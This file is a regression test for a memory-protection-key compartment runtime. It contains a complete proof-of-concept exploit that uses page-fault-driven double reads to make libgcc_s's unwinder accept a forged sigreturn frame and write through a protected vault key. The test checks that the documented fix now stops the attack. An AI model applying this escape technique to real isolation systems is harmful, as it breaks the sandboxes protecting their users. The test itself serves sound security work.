// Review 74b, attacker model B (the default domain's code; its own
// SIGSEGV handler; mprotect of its own pages). Review 53's fix
// (runtime/unwind-find.c, no_fde) reads the bytes at a return address with
// no FDE and stops the program if they are the sigreturn stub; answered no
// FDE, libgcc_s's fallback (MD_FALLBACK_FRAME_STATE_FOR) then reads the
// same bytes again itself, and takes a stub there for a signal frame: every
// register of the next frame from the ucontext above it. The two reads are
// separate; a page fault between them runs the program's handler.
// How: the stub's first byte (0x48) is the last byte of page T1, its other
// eight bytes the first of page T2 (the program's own pages). The vault's
// callback (default domain) moves to a stack of its own and enters the
// vault's vault_throw with the stub's address as its return address, and a
// ucontext at the frame's CFA (page U): rip just inside vault_run's call of
// vault_step, rsp vault_run's stack pointer (as review 53), rbx the vault's
// key (at -O2 vault_run's catch keeps the status pointer in rbx). T2 and U
// start PROT_NONE. The runtime reads 0x48 in T1, then faults on T2: the
// handler fills T2 with zeros (not the stub) and makes T1 PROT_NONE, and
// the runtime answers no FDE; libgcc_s's read of T1 faults: the handler
// gives T1 back and puts the stub's tail in T2, and libgcc_s sees the
// stub. Its read of the ucontext (U) faults once: the handler makes U
// readable and T2 PROT_NONE again, for the second phase. Deterministic:
// no race, one fault per step.
// "control": the same frames, but T1 and T2 hold the stub from the start
// and never fault (the refusal, review 53's fix). "plain": T2 holds zeros
// for good (no stub: the throw ends, std::terminate's line). DEBUG=1 in
// the environment prints each fault.
// Seen in the guest (LLVM 19, -O2) before the fix: five faults (T2, T1, U
// in the search phase; T2, T1 in the cleanup phase), then vault_run's
// catch stored "POWNED!" through rbx: ATTACK SUCCEEDED, 3 of 3; control:
// the refusal's line, plain: std::terminate's line.
// Fixed (runtime/unwind-find.c, no_fde): with a compartment's rights,
// outside the runtime's own walks, a pc with no FDE gets a read-only FDE
// that ends the stack there (its return address undefined) instead of
// none, so libgcc_s's fallback never runs and reads nothing again. Seen
// since: the one fault on T2, then std::terminate's line, 3 of 3; the
// controls unchanged.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -o %t
// RUN: not %run %t control 2>&1 | FileCheck %s --check-prefix=CONTROL
// RUN: not %run %t plain 2>&1 | FileCheck %s --check-prefix=PLAIN
// RUN: not %run %t 2>&1 | FileCheck %s
// CONTROL: frames found
// CONTROL-NOT: ATTACK SUCCEEDED
// CONTROL: the unwinder cannot unwind the frame at pc {{.*}} with a compartment's rights: {{.*}}sigreturn
// PLAIN: frames found
// PLAIN-NOT: ATTACK SUCCEEDED
// PLAIN: std::terminate called in compartment 'vault'
// CHECK: frames found
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: std::terminate called in compartment 'vault'
#include "Inputs/vault-key.h"
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <ucontext.h>
#include <unistd.h>

extern "C" void app_callback(void);

extern "C" BULKHEAD_INTERNAL(vault) __attribute__((noinline)) void
vault_step(const long *in) {
  volatile long sum = in[0];
  (void)sum;
  app_callback();
}

extern "C" BULKHEAD_ENTRY(vault) int vault_run(const long *in, long *status) {
  try {
    vault_step(in);
  } catch (E &e) {
    *status = e.v;
    return 1;
  }
  return 0;
}

static const unsigned char TAIL[8] = {0xc7, 0xc0, 0x0f, 0x00,
                                      0x00, 0x00, 0x0f, 0x05};
static const long PAGE = 4096;
static char *t1, *t2, *u; /* t2 = t1 + PAGE */
static char *stack_top;    /* the callback's stack: its frame ends at u */
static int mode;           /* 0 attack, 1 control, 2 plain */
static volatile int step, faults;
static uintptr_t *volatile top;
static long request[40];

/* Enters vault_throw(code) at sp, with return address ra. */
extern "C" void pivot(uintptr_t sp, uintptr_t ra, long code);
__asm__(".text\n.globl pivot\n.type pivot,@function\npivot:\n"
        "\tmovq %rdi, %rsp\n\tpushq %rsi\n\tmovq %rdx, %rdi\n"
        "\tjmp vault_throw\n.size pivot, .-pivot\n");

static void say(const char *s) {
  if (write(1, s, strlen(s)) < 0) {
  }
}

/* One step per fault, by page: T2 (the runtime's read), T1 (libgcc_s's),
 * U (libgcc_s's ucontext). */
static void on_segv(int, siginfo_t *si, void *) {
  char *a = (char *)si->si_addr;
  faults++;
  if (getenv("DEBUG")) {
    char b[96];
    snprintf(b, sizeof b, "fault %d at %s, step %d\n", faults,
             a >= t1 && a < t1 + PAGE ? "T1" : a >= t2 && a < t2 + PAGE ? "T2" : a >= u && a < u + PAGE ? "U" : "?", step);
    say(b);
  }
  if (a >= t2 && a < t2 + PAGE && step == 0) {
    mprotect(t2, PAGE, PROT_READ | PROT_WRITE);
    memset(t2, 0, 8);
    mprotect(t2, PAGE, PROT_READ);
    mprotect(t1, PAGE, PROT_NONE);
    step = 1;
  } else if (a >= t1 && a < t1 + PAGE && step == 1) {
    mprotect(t1, PAGE, PROT_READ);
    mprotect(t2, PAGE, PROT_READ | PROT_WRITE);
    memcpy(t2, TAIL, 8);
    mprotect(t2, PAGE, PROT_READ);
    step = 2;
  } else if (a >= u && a < u + PAGE && step == 2) {
    mprotect(u, PAGE, PROT_READ | PROT_WRITE);
    mprotect(t2, PAGE, PROT_NONE);
    step = 0;
  } else {
    say("unexpected fault\n");
    _exit(3);
  }
}

/* vault_step's frame below its return address, from its prologue. */
static long step_frame(void) {
  const unsigned char *p;
  __asm__("leaq vault_step(%%rip), %0" : "=r"(p));
  if (!memcmp(p, "\x55\x48\x89\xe5\x48\x83\xec", 7))
    return 8 + p[7];
  if (!memcmp(p, "\x48\x83\xec", 3))
    return p[3];
  if (p[0] == 0x50) /* push %rax: 8 */
    return 8;
  return -1;
}

extern "C" __attribute__((noinline)) void app_callback(void) {
  uintptr_t key, step_fn, run, desc;
  __asm__("leaq vault_key(%%rip), %0" : "=r"(key));
  __asm__("leaq vault_step(%%rip), %0" : "=r"(step_fn));
  __asm__("leaq \"__bulkhead_body.vault_run\"(%%rip), %0" : "=r"(run));
  __asm__("leaq __bulkhead_domain.vault(%%rip), %0" : "=r"(desc));
  uintptr_t back = 0;
  for (const unsigned char *q = (const unsigned char *)run;
       q < (const unsigned char *)run + 512 && !back; q++) {
    int32_t d;
    memcpy(&d, q + 1, 4);
    if (q[0] == 0xe8 && (uintptr_t)q + 5 + d == step_fn)
      back = (uintptr_t)q + 5;
  }
  /* The call out's saved vault stack pointer, on main's stack above this
   * frame (attacks-rev53-unwind-saved-sp.cpp). */
  uintptr_t lo = *(uintptr_t *)(desc + 40), hi = *(uintptr_t *)(desc + 48);
  volatile uintptr_t *found = NULL;
  for (volatile uintptr_t *w = (uintptr_t *)__builtin_frame_address(0);
       w < top && !found; w++) {
    uintptr_t v = w[0], s = w[-1];
    if (v > lo && v <= hi && v % 16 == 8 && s > v && s <= hi && s % 16 == 0)
      found = w;
  }
  long frame = step_frame();
  if (!found || !back || frame < 0) {
    printf("frames not found (%d %d %ld)\n", found != NULL, back != 0, frame);
    _exit(1);
  }
  printf("frames found\n");
  uintptr_t sp = *found + 64 + 8 + frame + 8;
  for (int i = 0; i < 40; i++)
    request[i] = (long)key;
  ucontext_t *uc = (ucontext_t *)u;
  memset(uc, 0, sizeof *uc);
  uc->uc_mcontext.gregs[REG_RIP] = back - 1;
  uc->uc_mcontext.gregs[REG_RSP] = sp;
  uc->uc_mcontext.gregs[REG_RBX] = key;
  uc->uc_mcontext.gregs[REG_RBP] = (uintptr_t)&request[32];
  t1[PAGE - 1] = 0x48;
  memcpy(t2, mode == 2 ? "\0\0\0\0\0\0\0\0" : (const char *)TAIL, 8);
  if (mode == 0) {
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = on_segv;
    sa.sa_flags = SA_SIGINFO;
    sigaction(SIGSEGV, &sa, NULL);
    mprotect(t2, PAGE, PROT_NONE);
    mprotect(u, PAGE, PROT_NONE);
  }
  pivot((uintptr_t)u, (uintptr_t)(t1 + PAGE - 1), POWNED);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  mode = argc < 2 ? 0 : !strcmp(argv[1], "control") ? 1 : 2;
  char *m = (char *)mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE,
                         MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  char *s = (char *)mmap(NULL, 66 * PAGE, PROT_READ | PROT_WRITE,
                         MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (m == MAP_FAILED || s == MAP_FAILED) {
    puts("no memory");
    return 1;
  }
  t1 = m, t2 = m + PAGE;
  u = s + 64 * PAGE, stack_top = s + 66 * PAGE;
  uintptr_t here;
  top = &here;
  long status = 0;
  int failed = vault_run(request, &status);
  printf("faults %d\n", faults);
  report(failed, status);
  printf("program ends\n");
  return 0;
}
